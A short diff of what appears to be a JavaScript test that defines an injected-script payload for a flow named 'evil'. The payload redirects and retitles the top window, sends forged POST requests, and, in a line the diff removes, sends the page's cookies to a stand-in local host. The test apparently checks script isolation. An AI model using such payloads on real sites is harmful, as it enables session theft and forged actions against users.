@@ -30,9 +30,9 @@ try { top.location = 'http://127.0.0.1:1/'; } catch {}
 try { top.document.title = 'pwned'; } catch {}
 for (const to of ['/api/spins', 'http://127.0.0.1:1/'])
   fetch(to, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"flow":"films","step":"grade"}' }).catch(() => {});
-new Image().src = 'http://127.0.0.1:1/?' + document.cookie;
+new Image().src = 'http://127.0.0.1:1/';
 document.title = 'ran';
-document.body.append('it ran');
+document.documentElement.append('it ran');
 </script>\`;
 const f = flow('evil', { params: { text: z.string().default(MARKUP) } });
 const start = f.start(({ card, log }) => {
